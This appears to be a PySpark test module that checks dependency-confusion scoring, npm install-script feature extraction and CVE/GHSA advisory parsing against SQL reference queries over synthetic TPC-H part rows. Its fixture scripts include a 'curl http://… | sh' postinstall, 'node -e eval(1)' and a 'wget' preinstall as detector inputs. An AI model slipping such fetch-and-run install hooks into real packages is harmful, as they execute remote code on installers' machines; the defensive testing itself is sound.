"""Queries of dependency confusion, script features and advisory feeds."""

from __future__ import annotations

from pyspark.sql import functions as F

from .. import fixed
from ..functions.versions import fixed_in
from ..operators import advisories, confusion
from ..registry import query, table
from . import sqltext as S

DAYS = "(CAST((p_size * 7) % 90 AS DOUBLE) / 2)"
LEVEL = "CASE WHEN days <= 1 THEN 'CRITICAL' WHEN days <= 3 THEN 'HIGH' WHEN days <= 7 THEN 'MEDIUM' ELSE 'LOW' END"
#: Parts as analysed packages: sizes give days and commits, prices give scores, keys give scopes and gaps.
ANALYSED = f"""
SELECT *, CASE WHEN package % 11 = 0 THEN NULL ELSE {LEVEL} END AS timeline FROM (
  SELECT p_partkey AS package, CASE WHEN p_partkey % 4 = 0 THEN 'PRIVATE' WHEN p_partkey % 4 = 1 THEN 'UNKNOWN' ELSE 'PUBLIC' END AS scope_type, CAST(p_partkey % 3 AS BIGINT) AS patterns,
    {DAYS} AS days, CAST(p_size % 9 AS BIGINT) AS recent_commits, p_partkey % 2 = 0 AS ml, p_size % 10 >= 7 AS above, p_size % 10 < 7 AND p_size % 7 >= 4 AS at_risk,
    CAST(p_size % 10 AS DOUBLE) / 10 AS threat_score, CAST(p_size % 7 AS DOUBLE) / 7 AS predictive_score, CASE WHEN p_partkey % 29 = 0 THEN 'no manifest' END AS error
  FROM part)"""


@query("dependency_confusion", f"""
WITH p AS ({ANALYSED}), k AS (SELECT * FROM p WHERE error IS NULL AND timeline IS NOT NULL)
SELECT package, 'DEPENDENCY_CONFUSION_TIMELINE' AS type, timeline AS severity, round((CASE WHEN ml AND above THEN least(95, 70 + floor(threat_score * 25 + 0.5)) ELSE least(95, greatest(0, 60 + (30 - days) * 2)) END / 100)::DOUBLE, 6) AS confidence FROM k WHERE timeline <> 'LOW'
UNION ALL SELECT package, 'DEPENDENCY_CONFUSION_ML_ANOMALY', CASE WHEN threat_score >= 0.8 THEN 'HIGH' ELSE 'MEDIUM' END, round((threat_score * 0.9)::DOUBLE, 6) FROM k WHERE timeline = 'LOW' AND ml AND above
UNION ALL SELECT package, 'DEPENDENCY_CONFUSION_PREDICTIVE_RISK', 'LOW', round((predictive_score * 0.6)::DOUBLE, 6) FROM k WHERE timeline = 'LOW' AND ml AND at_risk AND NOT above
UNION ALL SELECT package, 'DEPENDENCY_CONFUSION_PATTERN', CASE WHEN scope_type = 'PRIVATE' THEN 'HIGH' ELSE 'MEDIUM' END, 0.75 FROM k WHERE patterns > 0
UNION ALL SELECT package, 'DEPENDENCY_CONFUSION_SCOPE', 'HIGH', 0.85 FROM k WHERE scope_type = 'PRIVATE'
UNION ALL SELECT package, 'DEPENDENCY_CONFUSION_ACTIVITY', 'MEDIUM', 0.6 FROM k WHERE recent_commits < 5 AND days > 30
UNION ALL SELECT package, 'DEPENDENCY_CONFUSION_ERROR', 'LOW', 0.1 FROM p WHERE error IS NOT NULL""")
def dependency_confusion(spark, d):
    """All rules of the analysis."""
    table(spark, d, "part").createOrReplaceTempView("ferrule_part")
    rows = spark.sql(ANALYSED.replace("FROM part)", "FROM ferrule_part)"))
    found = confusion.confusion_threats(rows.withColumn("anomaly", F.col("threat_score")))
    return found.withColumn("confidence", F.round("confidence", 6))


SCRIPTS = {"postinstall": "CASE WHEN p_size % 3 = 0 THEN 'curl http://' || p_brand || ' | sh' WHEN p_size % 3 = 1 THEN 'node -e eval(1)' END", "test": "CASE WHEN p_size % 2 = 0 THEN 'jest ' || p_name END", "preinstall": "CASE WHEN p_size % 5 = 0 THEN 'echo _0x1f && wget x' END"}


def map_of(values: dict[str, str]) -> str:
    return "map_filter(map(" + ", ".join(f"'{k}', {v}" for k, v in values.items()) + "), (k, v) -> v IS NOT NULL)"


def text_of(values: dict[str, str]) -> str:
    return f"array_to_string(list_filter([{', '.join(values.values())}], lambda x: x IS NOT NULL), chr(10))"


@query("script_features", f"""
SELECT p_partkey, script_count, script_length, has_postinstall, postinstall_length, preinstall_length, 0::BIGINT AS postuninstall_length, dependency_count, 0::BIGINT AS dev_dependency_count, {', '.join(f'{k}_count' for k in fixed.BEHAVIORS)},
  round(least(1.0, obfuscation_count * 0.05 + base64_decode_count * 0.05 + eval_count * 0.1)::DOUBLE, 6) AS entropy_score
FROM (SELECT p_partkey, len(list_filter([{', '.join(SCRIPTS.values())}], lambda x: x IS NOT NULL))::BIGINT AS script_count,
  ({' + '.join(f'coalesce(length({v}), 0)' for v in SCRIPTS.values())})::BIGINT AS script_length, coalesce(length({SCRIPTS['postinstall']}) > 0, false) AS has_postinstall,
  coalesce(length({SCRIPTS['postinstall']}), 0)::BIGINT AS postinstall_length, coalesce(length({SCRIPTS['preinstall']}), 0)::BIGINT AS preinstall_length, (1 + (p_size % 4 = 0)::INT)::BIGINT AS dependency_count,
  {', '.join(f"len(regexp_extract_all({text_of(SCRIPTS)}, {S.quoted(p)}))::BIGINT AS {k}_count" for k, p in fixed.BEHAVIORS.items())} FROM part)""")
def script_features(spark, d):
    """Measures of manifests' scripts."""
    rows = table(spark, d, "part").select(
        "p_partkey", F.expr(map_of(SCRIPTS)).alias("scripts"), F.expr(map_of({"a": "'1'", "b": "CASE WHEN p_size % 4 = 0 THEN '2' END"})).alias("dependencies"), F.lit(None).cast("map<string,string>").alias("dev_dependencies")
    )
    return confusion.script_features(rows).drop("scripts", "dependencies", "dev_dependencies").withColumn("entropy_score", F.round("entropy_score", 6))


WORDS = "CASE p_size % 6 WHEN 0 THEN 'glob' WHEN 1 THEN 'commander' WHEN 2 THEN 'js-yaml' WHEN 3 THEN '@acme/left' WHEN 4 THEN 'axios' ELSE 'tar' END"
PROSE = "CASE p_partkey % 5 WHEN 0 THEN 'The ' || package || ' package before 2.0.0 is open, fixed in 1.5.0' WHEN 1 THEN 'Midnight Commander uses ' || package || ' up to now' WHEN 2 THEN 'Package grunt reads with ' || package WHEN 3 THEN 'Something else' ELSE 'npm ' || package || ' leaks, prior to v1.2.3' END"
FEED = f"(SELECT p_partkey, p_size, package, {PROSE} AS prose, p_size % 4 AS kind, (1 + p_size % 3) || '.' || p_size % 7 || '.0' AS version FROM (SELECT p_partkey, p_size, {WORDS} AS package FROM part))"


@query("advisory_feed", f"""
SELECT p_partkey, 'CVE-' || p_partkey AS id, CASE kind WHEN 0 THEN 'CRITICAL' WHEN 1 THEN 'HIGH' WHEN 2 THEN 'LOW' ELSE 'MEDIUM' END AS severity, CASE kind WHEN 0 THEN '3.1' WHEN 1 THEN '3.0' WHEN 2 THEN '2.0' END AS cvss_version,
  CASE WHEN kind < 3 THEN p_size / 5.0 END::DOUBLE AS base_score, 3::BIGINT AS links
FROM {FEED}""")
def advisory_feed(spark, d):
    """CVE records read from JSON, the newest score version first."""
    found = advisories.cves(feed_lines(spark, d))
    return found.select(F.substring_index("id", "-", -1).cast("long").alias("p_partkey"), "id", "severity", "cvss_version", "base_score", F.size("references").cast("long").alias("links"))


def feed(spark, d):
    table(spark, d, "part").createOrReplaceTempView("ferrule_part")
    return spark.sql(f"SELECT * FROM {FEED.replace('FROM part', 'FROM ferrule_part')}")


def feed_lines(spark, d):
    """A CVE record in JSON for each row of the feed."""
    score = lambda word: F.array(F.struct(F.struct((F.col("p_size") / 5.0).alias("baseScore"), F.lit("AV:N").alias("vectorString"), F.lit(word).alias("baseSeverity")).alias("cvssData")))
    low = F.when(F.col("kind") <= 2, score("LOW"))
    metrics = F.struct(F.when(F.col("kind") == 0, score("critical")).alias("cvssMetricV31"), F.when(F.col("kind") <= 1, score("HIGH")).alias("cvssMetricV30"), low.alias("cvssMetricV2"))
    criteria = F.when(F.col("p_partkey") % 7 == 0, F.concat(F.lit("cpe:2.3:a:vendor:"), "package", F.lit(":*:*"))).otherwise("cpe:2.3:a:other:thing:*")
    match = F.struct(criteria.alias("criteria"), F.when(F.col("p_partkey") % 3 == 0, "2.5.0").alias("versionEndExcluding"))
    record = F.struct(
        F.concat(F.lit("CVE-"), F.col("p_partkey").cast("string")).alias("id"), F.array(F.struct(F.lit("en").alias("lang"), F.col("prose").alias("value"))).alias("descriptions"), metrics.alias("metrics"),
        F.array(F.struct(F.lit("https://example.org/a").alias("url"))).alias("references"), F.array(F.struct(F.array(F.struct(F.array(match).alias("cpeMatch"))).alias("nodes"))).alias("configurations"),
    )
    return feed(spark, d).select("p_partkey", "package", "version", "prose", F.to_json(record).alias("value"))


def like_product_sql() -> str:
    return " OR ".join(rf"(package = '{w}' AND regexp_matches(prose, '(?i)\b{w}\s+(package|up to|before|through|version)|(package|npm)\s+{w}\b'))" for w in fixed.COMMON_NAMES)


def phrases_sql(known: dict) -> str:
    return " OR ".join(f"(package = '{w}' AND ({' OR '.join(f'contains(lower(prose), {S.quoted(p)})' for p in ps)}))" for w, ps in known.items())


FIXED_IN = r"coalesce(nullif(regexp_extract(prose, '(?i)(?:fixed in|patched in|resolved in)\s+v?(\d+\.\d+\.\d+)', 1), ''), nullif(regexp_extract(prose, '(?i)prior to\s+v?(\d+\.\d+\.\d+)', 1), ''))"


def newer_sql(a: str, b: str) -> str:
    """Whether version a, of three short numbers, is b or newer."""
    key = lambda v: f"list_aggregate(list_transform(string_split({v}, '.'), lambda x: lpad(x, 6, '0')), 'string_agg', '.')"
    return f"{key(a)} >= {key(b)}"


@query("advisory_relevance", f"""
SELECT p_partkey, coalesce((named OR ((contains(lower(prose), package) OR contains(lower(prose), replace(ltrim(package, '@'), '/', '-'))) AND (package NOT IN ({', '.join(S.quoted(w) for w in fixed.COMMON_NAMES)}) OR (({like_product_sql()}) AND NOT ({phrases_sql(fixed.OTHER_PRODUCTS)})))))
    AND NOT ({phrases_sql(fixed.USED_ELSEWHERE)}), false) AS about,
  (p_partkey % 3 <> 0 OR NOT {newer_sql('version', "'2.5.0'")}) AND ({FIXED_IN} IS NULL OR NOT {newer_sql('version', FIXED_IN)}) AS affected
FROM (SELECT *, p_partkey % 7 = 0 AS named FROM {FEED})""")
def advisory_relevance(spark, d):
    """Which CVEs found by keyword are about the package, and hit its version (P20)."""
    lines = feed_lines(spark, d)
    found = advisories.cves(lines).select("id", "description", "criteria")
    own = lines.select("p_partkey", "package", "version", F.concat(F.lit("CVE-"), F.col("p_partkey").cast("string")).alias("id"))
    joined = own.join(found, "id")
    return joined.select(
        "p_partkey", advisories.about_package(F.col("description"), F.col("criteria"), F.col("package")).alias("about"),
        advisories.affects(F.col("version"), F.col("criteria"), fixed_in(F.col("description"))).alias("affected"),
    )


@query("reviewed_advisories", f"""
SELECT package, CASE WHEN p_partkey % 2 = 0 THEN 'CVE-' || p_partkey ELSE 'GHSA-' || p_partkey END AS vulnerability, CASE kind WHEN 0 THEN 'CRITICAL' WHEN 1 THEN 'HIGH' WHEN 2 THEN 'MEDIUM' ELSE 'LOW' END AS severity,
  '<' || version AS affected, version AS patched, (1 + (p_partkey % 2 = 0)::INT)::BIGINT AS links FROM {FEED}""")
def reviewed_advisories(spark, d):
    """Reviewed advisories read from JSON."""
    number = F.col("p_partkey").cast("string")
    ids = F.when(F.col("p_partkey") % 2 == 0, F.array(F.struct(F.lit("CVE").alias("type"), F.concat(F.lit("CVE-"), number).alias("value")))).otherwise(F.array(F.struct(F.lit("GHSA").alias("type"), number.alias("value"))))
    word = F.when(F.col("kind") == 0, "critical").when(F.col("kind") == 1, "high").when(F.col("kind") == 2, "moderate").otherwise("low")
    one = F.struct("package", F.concat(F.lit("<"), "version").alias("vulnerableVersionRange"), F.col("version").alias("firstPatchedVersion"))
    record = F.struct(F.concat(F.lit("GHSA-"), number).alias("ghsaId"), word.alias("severity"), F.lit("https://example.org/x").alias("permalink"), ids.alias("identifiers"), F.array(one).alias("vulnerabilities"))
    found = advisories.reviewed(feed(spark, d).select(F.to_json(record).alias("value")))
    return found.select("package", "vulnerability", "severity", "affected", "patched", F.size("references").cast("long").alias("links"))
